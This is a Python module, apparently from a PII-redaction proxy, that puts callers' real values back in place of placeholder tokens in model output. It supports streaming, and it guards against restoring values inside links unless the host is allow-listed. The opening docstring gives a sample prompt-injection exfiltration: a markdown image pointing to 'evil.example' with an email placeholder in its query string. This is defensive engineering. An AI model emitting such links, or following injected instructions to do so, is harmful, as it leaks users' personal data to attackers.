"""Putting the caller's values back where the model wrote tokens.

Only tokens issued in the request's own scope are replaced: a placeholder-shaped string the
vault never issued there is left exactly as written. Fakes (synthesized values) are matched
as whole words so a fake ``Dana`` does not rewrite ``Danara``.

For streams, ``partial_token_suffix`` says how much of a text's tail must be held back
because the next chunk could still complete a token.

No value is restored into a link: a token inside a URL, a markdown link or image target, or
an HTML tag's attributes stays as it is (or is redacted), unless the URL's host is on the
policy's allow-list (:class:`LinkGuard`). A model steered by an injected page can write
``![s](https://evil.example/p.png?u=<EMAIL_ADDRESS_1>)``; a markdown renderer would fetch the
restored address from that host. The decision reads only the raw text before the token, so
a stream decides exactly as the whole answer would.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Mapping

from qorgan.transform.placeholders import (
    MAX_PLACEHOLDER_LEN,
    PLACEHOLDER_PREFIX_RE,
    PLACEHOLDER_RE,
)
from qorgan.transform.vault import Vault, VaultScope

__all__ = [
    "MAX_PLACEHOLDER_LEN",
    "PLACEHOLDER_RE",
    "LinkGuard",
    "TokenTable",
    "link_host",
    "max_token_len",
    "partial_token_suffix",
    "restore",
]


def _allow_all(entity_type: str) -> bool:
    return True


def _word(ch: str) -> bool:
    return ch.isalnum() or ch == "_"


def _token_pattern(token: str) -> str:
    # whole-word matching only at ends that are word characters ("<...>" needs none)
    left = r"(?<!\w)" if _word(token[0]) else ""
    right = r"(?!\w)" if _word(token[-1]) else ""
    return f"{left}{re.escape(token)}{right}"


#: how far back a token's link context is looked for (a URL, a tag's attributes)
LINK_REACH = 2048
_URL_START = re.compile(r"(?i)(?:(?<![A-Za-z0-9+.\-])[a-z][a-z0-9+.\-]*:)?//|(?<![\w.])www\.")
_HOSTLESS = re.compile(r"(?i)(?<![A-Za-z0-9+.\-])(?:mailto|tel|sms|javascript|data|file|blob):")
_TAG_OPEN = re.compile(r"<(?=[A-Za-z])")
_TAG_NAME = re.compile(r"<[A-Za-z][A-Za-z0-9:\-]*\s")
_HOST_END = re.compile(r"[/?#\\\s\"'<>()\[\]`]")
#: no host: the link has none (relative, ``mailto:``) or the token is part of the host
NO_HOST = ""


def link_host(before: str) -> str | None:
    """Whether a token right after ``before`` sits in a link, and the link's host.

    ``None``: not in a link. Otherwise the host (lower case, without user info and port),
    or ``NO_HOST`` when there is none to check: a relative target, a ``mailto:`` or
    ``javascript:`` URL, or a token inside the host itself.
    """
    prefix = before[-LINK_REACH:].replace("\\/", "/")
    run_start = max(prefix.rfind(c) for c in " \t\r\n") + 1
    run = prefix[run_start:]
    url = _last(_URL_START, run)
    if url is not None:
        return _host(run[url:])
    if _last(_HOSTLESS, run) is not None:
        return NO_HOST
    target = run.rfind("](")
    if target >= 0 and ")" not in run[target + 2:]:
        return NO_HOST  # a markdown link or image whose target is relative
    tag = _open_tag(prefix)
    if tag is not None:
        inside = prefix[tag:]
        if "=" not in inside:
            return None  # a tag name, no attribute yet
        url = _last(_URL_START, inside)
        return _host(inside[url:]) if url is not None else NO_HOST
    return None


def _last(pattern: re.Pattern[str], text: str) -> int | None:
    found = None
    for match in pattern.finditer(text):
        found = match.start()
    return found


def _host(url: str) -> str:
    start = url.find("//")
    rest = url[start + 2:] if start >= 0 else url
    end = _HOST_END.search(rest)
    if end is None:
        return NO_HOST  # the token continues the host: the value would name it
    authority = rest[:end.start()]
    host = authority.rpartition("@")[2].partition(":")[0].lower()
    return host.rstrip(".")


def _open_tag(prefix: str) -> int | None:
    """Where the HTML tag still open at the end of ``prefix`` starts (placeholders, which
    look like tags, are not tags)."""
    for match in reversed(list(_TAG_OPEN.finditer(prefix))):
        start = match.start()
        if PLACEHOLDER_RE.match(prefix, start):
            continue
        if ">" in prefix[start:] or not _TAG_NAME.match(prefix, start):
            return None
        return start
    return None


class LinkGuard:
    """Which tokens may be restored inside links, and what the others become.

    ``hosts`` are the allowed hosts: ``example.kz`` matches that host, ``*.example.kz`` its
    subdomains. A withheld token stays as it is (``mode="keep"``) or becomes the redaction
    ``<ENTITY_TYPE>`` (``mode="redact"``); ``withheld`` lists the entity type and the span
    (in the restored text's coordinates) of each, for the audit.
    """

    def __init__(self, hosts: Iterable[str] = (), *, mode: str = "keep") -> None:
        self.exact = frozenset(h.lower() for h in hosts if not h.startswith("*."))
        self.suffixes = tuple(h[1:].lower() for h in hosts if h.startswith("*."))
        self.mode = mode
        self.withheld: list[tuple[str, int, int]] = []

    def allows(self, host: str) -> bool:
        return bool(host) and (host in self.exact or host.endswith(self.suffixes))

    def replacement(self, token: str, entity_type: str) -> str:
        return f"<{entity_type}>" if self.mode == "redact" else token


class TokenTable:
    """A scope's tokens compiled once for repeated restores (a stream calls it per chunk)."""

    def __init__(self, table: Mapping[str, tuple[str, str]]) -> None:
        self.table = dict(table)
        fakes = sorted((t for t in self.table if not PLACEHOLDER_RE.fullmatch(t)), key=len)
        parts = [PLACEHOLDER_RE.pattern]
        # longest first: an alternation takes the first alternative that matches
        parts.extend(_token_pattern(t) for t in reversed(fakes) if t)
        self._pattern = re.compile("|".join(f"(?:{p})" for p in parts))
        self._prefixes: set[str] = {t[:k] for t in self.table for k in range(1, len(t))}
        self._word_final = {t for t in self.table if t and _word(t[-1])}
        self.longest = max((len(t) for t in self.table), default=0)

    def restore(
        self,
        text: str,
        allowed: Callable[[str], bool] = _allow_all,
        *,
        before: str = "",
        links: LinkGuard | None = None,
    ) -> str:
        """``text`` with this table's tokens replaced by their values when allowed.

        ``before`` is the raw text that precedes ``text``: its last character decides
        whether a fake at the very start is a whole word, and with ``links`` it decides
        whether a token sits in a link; it is not returned.
        """
        if not self.table or not text:
            return text
        # the whole raw prefix when links are checked, else just the character a fake's
        # whole-word test needs
        full = (before if links is not None else before[-1:]) + text
        out: list[str] = []
        cursor = len(full) - len(text)
        start = cursor
        # finditer from an offset still lets the lookbehind see the context character
        for match in self._pattern.finditer(full, cursor):
            token = match.group(0)
            entry = self.table.get(token)
            out.append(full[cursor : match.start()])
            if entry is None or not allowed(entry[0]):
                out.append(token)
            elif links is not None and not self._restorable(full[:match.start()], links):
                out.append(links.replacement(token, entry[0]))
                links.withheld.append((entry[0], match.start() - start,
                                       match.end() - start))
            else:
                out.append(entry[1])
            cursor = match.end()
        out.append(full[cursor:])
        return "".join(out)

    @staticmethod
    def _restorable(before: str, links: LinkGuard) -> bool:
        host = link_host(before)
        return host is None or links.allows(host)

    def partial_suffix(self, text: str) -> int:
        """Length of the longest tail of ``text`` that could still become a token.

        A tail counts when it is a proper prefix of an issued token, of the placeholder
        grammar, or a whole word-final token (the next character decides whether it is a
        whole word).
        """
        best = 0
        grammar = PLACEHOLDER_PREFIX_RE.search(text, max(0, len(text) - MAX_PLACEHOLDER_LEN))
        if grammar is not None:
            best = len(text) - grammar.start()
        limit = min(len(text), self.longest)
        for k in range(limit, best, -1):
            tail = text[-k:]
            if tail not in self._prefixes and tail not in self._word_final:
                continue
            start = len(text) - k
            if start > 0 and _word(tail[0]) and _word(text[start - 1]):
                continue  # preceded by a word character: cannot start a whole-word token
            return k
        return best


def partial_token_suffix(text: str, tokens: Iterable[str]) -> int:
    """Length of the longest suffix of ``text`` that may still grow into one of ``tokens``
    or into any placeholder (see ``TokenTable.partial_suffix``); 0 when none can.
    """
    return TokenTable(dict.fromkeys(tokens, ("", ""))).partial_suffix(text)


def max_token_len(tokens: Iterable[str]) -> int:
    """The hold-back bound for a scope: its longest token, at least the placeholder grammar's."""
    return max([MAX_PLACEHOLDER_LEN, *(len(t) for t in tokens)])


async def restore(
    text: str,
    vault: Vault,
    scope: VaultScope,
    *,
    allowed: Callable[[str], bool] = _allow_all,
) -> str:
    """``text`` with every token issued in ``scope`` replaced by its value when
    ``allowed(entity_type)``; anything else (foreign or unknown tokens) is left as is.
    """
    if not text:
        return text
    table = await vault.tokens(scope)
    if not table:
        return text
    return TokenTable(table).restore(text, allowed)
